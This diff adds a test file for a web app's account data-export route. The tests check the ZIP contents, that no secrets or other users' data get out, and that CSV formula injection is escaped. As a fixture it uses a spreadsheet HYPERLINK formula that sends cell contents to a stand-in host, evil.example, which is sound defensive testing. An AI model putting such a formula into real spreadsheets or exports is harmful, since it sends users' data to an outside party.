@@ -1,0 +1,161 @@
+import { strFromU8, unzipSync } from "fflate";
+import { NextRequest } from "next/server";
+import { describe, expect, it } from "vitest";
+import { GET as exportRoute } from "@/app/api/account/export/route";
+import { POST as generate } from "@/app/api/bio/generate/route";
+import { POST as createProfile } from "@/app/api/profile/route";
+import { createShare } from "@/lib/db/shares";
+import { recordTrackEvent } from "@/lib/db/track-events";
+import { callRoute } from "../support/call-route";
+import { registerUser } from "../support/users";
+
+// "Download your data" (issue 8): a ZIP of JSON plus CSV per kind of record, safe to
+// open in a spreadsheet, and only ever the signed-in user's own data.
+
+const ORIGIN = "http://localhost:3000";
+type User = Awaited<ReturnType<typeof registerUser>>;
+
+const KINDS = [
+  "user",
+  "profile",
+  "avatars",
+  "generations",
+  "usage",
+  "sharedBios",
+  "templateUses",
+  "gamification",
+  "activityDays",
+  "badges",
+  "challenges",
+  "sessions",
+  "apiTokens",
+  "trackEvents",
+  "pageEvents",
+  "contactMessages",
+  "newsletter",
+];
+
+async function download(headers: Record<string, string>, query = "") {
+  const req = new NextRequest(`${ORIGIN}/api/account/export${query}`, { method: "GET", headers });
+  const res = await exportRoute(req, { params: Promise.resolve({}) });
+  const bytes = new Uint8Array(await res.arrayBuffer());
+  return { status: res.status, headers: res.headers, bytes };
+}
+
+function unzip(bytes: Uint8Array) {
+  const files = unzipSync(bytes);
+  return { names: Object.keys(files), text: (name: string) => strFromU8(files[name] ?? new Uint8Array()) };
+}
+
+const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+
+async function userWithData(): Promise<{ user: User; username: string; shareId: string }> {
+  const user = await registerUser({ displayName: "Export Person" });
+  const username = `exp_${Date.now().toString(36)}${Math.floor(Math.random() * 1e6)}`;
+  const profile = await callRoute(createProfile, {
+    path: "/api/profile",
+    body: { username, displayName: "Export Person", bio: "=1+2 and @SUM(A1) in my bio" },
+    headers: user.auth,
+  });
+  expect(profile.status, JSON.stringify(profile.body)).toBe(201);
+  const generated = await callRoute(generate, {
+    path: "/api/bio/generate",
+    body: { description: "Florist in Kyoto who loves ikebana, tea and quiet mornings", tone: "poetic" },
+    headers: user.auth,
+  });
+  expect(generated.status).toBe(200);
+  const share = await createShare({ userId: user.user.id, description: "-2+3", tone: "bold", bio: FORMULA });
+  await recordTrackEvent({ bioId: share.id, event: "click", source: "share-page" });
+  return { user, username, shareId: share.id };
+}
+
+describe("GET /api/account/export (issue 8)", () => {
+  it("is 401 signed out", async () => {
+    const res = await download({});
+    expect(res.status).toBe(401);
+    expect(JSON.parse(new TextDecoder().decode(res.bytes))).toEqual({ message: "Please sign in to continue." });
+  });
+
+  it("answers a ZIP with data.json and a JSON and a CSV file per kind of record", async () => {
+    const { user, username, shareId } = await userWithData();
+    const res = await download(user.auth);
+    expect(res.status).toBe(200);
+    expect(res.headers.get("content-type")).toBe("application/zip");
+    expect(res.headers.get("content-disposition")).toMatch(
+      /^attachment; filename="biostudio-data-\d{4}-\d{2}-\d{2}\.zip"$/,
+    );
+    expect(res.headers.get("cache-control")).toContain("no-store");
+    expect(Array.from(res.bytes.slice(0, 4))).toEqual([0x50, 0x4b, 0x03, 0x04]);
+
+    const zip = unzip(res.bytes);
+    expect(zip.names).toContain("data.json");
+    expect(zip.names).toContain("README.txt");
+    for (const kind of KINDS) {
+      expect(zip.names, kind).toContain(`json/${kind}.json`);
+      expect(zip.names, kind).toContain(`csv/${kind}.csv`);
+    }
+
+    const data = JSON.parse(zip.text("data.json")) as Record<string, unknown>;
+    expect((data.user as { email: string }).email).toBe(user.email);
+    expect((data.profile as { username: string }).username).toBe(username);
+    expect(data.generations).toHaveLength(1);
+    expect((data.sharedBios as { id: string }[]).map((s) => s.id)).toEqual([shareId]);
+    expect(JSON.parse(zip.text("json/trackEvents.json"))).toEqual(
+      expect.arrayContaining([expect.objectContaining({ bioId: shareId, event: "click" })]),
+    );
+
+    // No secrets leave the server.
+    const everything = zip.names
+      .filter((n) => !n.startsWith("avatars/"))
+      .map(zip.text)
+      .join("\n");
+    expect(everything).not.toMatch(/passwordHash|tokenHash|\$argon2/);
+    expect(everything).not.toContain(user.token);
+
+    const generationsCsv = zip.text("csv/generations.csv");
+    expect(generationsCsv.split("\r\n")[0]).toContain('"description"');
+    expect(generationsCsv).toContain("Florist in Kyoto");
+  });
+
+  it("neutralises spreadsheet formulas in every CSV cell (= + - @ prefixed with ')", async () => {
+    const { user } = await userWithData();
+    const zip = unzip((await download(user.auth)).bytes);
+    const shares = zip.text("csv/sharedBios.csv");
+    expect(shares).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
+    expect(shares).toContain(`"'-2+3"`);
+    expect(shares).not.toMatch(/(^|,)"=/m);
+    const profile = zip.text("csv/profile.csv");
+    expect(profile).toContain(`"'=1+2 and @SUM(A1) in my bio"`);
+    for (const name of zip.names.filter((n) => n.endsWith(".csv"))) {
+      for (const line of zip.text(name).split("\r\n")) {
+        // Every cell is quoted; none starts with a formula character once opened.
+        expect(line, name).not.toMatch(/(^|,)"[=+\-@]/);
+      }
+    }
+    // The JSON keeps the user's text exactly as written.
+    expect(zip.text("json/sharedBios.json")).toContain(JSON.stringify(FORMULA).slice(1, -1));
+  });
+
+  it("IDOR: nobody downloads someone else's data, whatever they put in the query", async () => {
+    const alice = await userWithData();
+    const mallory = await registerUser({ displayName: "Mallory" });
+    const res = await download(
+      mallory.auth,
+      `?userId=${alice.user.user.id}&email=${encodeURIComponent(alice.user.email)}`,
+    );
+    expect(res.status).toBe(200);
+    const zip = unzip(res.bytes);
+    const data = JSON.parse(zip.text("data.json")) as { user: { id: string; email: string } };
+    expect(data.user.id).toBe(mallory.user.id);
+    const everything = zip.names.map(zip.text).join("\n");
+    expect(everything).not.toContain(alice.user.email);
+    expect(everything).not.toContain(alice.user.user.id);
+    expect(everything).not.toContain(alice.username);
+    expect(everything).not.toContain(alice.shareId);
+  });
+
+  it("a bad or revoked token gets 401, never someone's ZIP", async () => {
+    const res = await download({ authorization: "Bearer not-a-real-token" });
+    expect(res.status).toBe(401);
+  });
+});
